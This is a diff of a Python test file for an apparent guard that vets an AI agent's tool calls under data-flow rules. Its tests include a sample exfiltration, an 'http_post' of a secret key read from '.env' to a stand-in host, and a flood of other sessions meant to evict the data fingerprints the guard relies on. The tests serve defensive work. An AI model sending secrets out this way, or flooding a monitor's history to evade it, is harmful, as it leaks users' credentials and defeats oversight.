@@ -117,12 +117,15 @@ def test_a_demoted_session_keeps_its_labels_and_its_numbering() -> None:
     _call(history, "b", "d3", _prints(150, 2))  # "a" and "plain" go
     kept = history.view("t", "a")
     assert kept.steps == () and kept.labels == {"secret"} and kept.next_seq == 2
-    assert history.view("t", "plain") == SessionView("t", "plain")  # nothing left
+    # a session with no labels keeps its numbering too, and that its data is lost
+    assert history.view("t", "plain") == SessionView("t", "plain", next_seq=2, lost=True)
     step = history.append("t", "a", NewStep("tool", "ls", "allow", "d4"))
     assert step.seq == 2
     assert history.view("t", "a").labels == {"secret"}
-    # what it lost: its earlier result no longer flows (as past max_steps)
+    # what it lost: its earlier result is no longer there to flow (as past max_steps),
+    # and the view says so: a data rule on it is undetermined (see the flood tests)
     assert not ANY.holds(history.view("t", "a"), {"body": SECRET}, None)
+    assert history.view("t", "a").lost
 
 
 def test_views_handed_out_before_a_demotion_stay_as_they_were() -> None:
@@ -272,17 +275,55 @@ def test_a_flood_from_other_sessions_does_not_wash_off_a_secret_label(
     assert guard.check(Action.tool("send_mail", mail_args)).verdict == mail
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="history bound: other sessions (any tenant) bringing in past max_fingerprints "
-    "of results demote the least recently written session, and with its steps go its "
-    "results' fingerprints: a policy that relies on flows_from alone then lets the "
-    "secret leave (labels survive). The SQL store keeps every live session's steps.",
-)
-def test_a_flood_from_other_sessions_does_not_hide_a_flow() -> None:
+@pytest.mark.parametrize("path", [".env", "notes.txt"])
+def test_a_flood_from_other_sessions_does_not_hide_a_flow(path: str) -> None:
+    """Demoted, the session's results' fingerprints are gone: a data-flow rule on it
+    cannot tell, so the check is undetermined (refused), never a miss that allows —
+    for the secret's session and for its benign look-alike alike (neither can be told
+    apart once the data is gone). Calls no data rule reads still go."""
     history = MemoryHistory(max_fingerprints=20_000)
-    guard = _victim(history, ".env")
+    guard = _victim(history, path)
     post = Action.tool("http_post", {"url": "https://x.example", "body": KEY})
-    assert guard.check(post).verdict == Verdict.DENY  # before the flood: a flow
+    before = guard.check(post).verdict
+    assert before == (Verdict.DENY if path == ".env" else Verdict.ALLOW)
     _flood(history)
-    assert guard.check(post).verdict == Verdict.DENY
+    assert history.view("default", "victim").steps == ()  # demoted
+    assert history.view("default", "victim").lost
+    decision = guard.check(post)
+    assert decision.verdict == Verdict.UNDETERMINED
+    assert "cannot tell" in decision.reason
+    other = Action.tool("http_post", {"url": "https://x.example", "body": "hello"})
+    assert guard.check(other).verdict == Verdict.UNDETERMINED  # any data rule: unknown
+    assert guard.check(Action.tool("lookup", {"q": "x"})).verdict == Verdict.ALLOW
+
+
+def test_a_demoted_session_that_brought_no_data_in_is_still_judged() -> None:
+    """A session whose only steps were the user's own words (trusted inputs) lost no
+    data a flow could come from: its flow rules are judged as before."""
+    history = MemoryHistory(max_fingerprints=20_000)
+    guard = Guard(
+        load_policy_text(FLOOD_POLICY), context=Context(session_id="quiet"), sessions=history
+    )
+    guard.record_input("please post the report", trusted=True)
+    _flood(history)
+    assert not history.view("default", "quiet").lost
+    post = Action.tool("http_post", {"url": "https://x.example", "body": KEY})
+    assert guard.check(post).verdict == Verdict.ALLOW
+
+
+def test_a_result_that_arrives_after_its_session_was_demoted_is_lost_not_dropped() -> None:
+    """The secret is read (allowed, not yet settled), the session is demoted, then the
+    read returns: its data cannot be kept, so the session is marked lost and the flow
+    rule on it is undetermined, not a miss."""
+    history = MemoryHistory(max_fingerprints=20_000)
+    guard = Guard(
+        load_policy_text(FLOOD_POLICY), context=Context(session_id="slow"), sessions=history
+    )
+    read = guard.check(Action.tool("read_file", {"path": "notes.txt"}))
+    assert read.verdict == Verdict.ALLOW
+    _flood(history)
+    assert not history.view("default", "slow").lost  # nothing had come in yet
+    history.settle("default", "slow", read.decision_id, executed=True, fingerprints=of_data(KEY))
+    assert history.view("default", "slow").lost
+    post = Action.tool("http_post", {"url": "https://x.example", "body": KEY})
+    assert guard.check(post).verdict == Verdict.UNDETERMINED
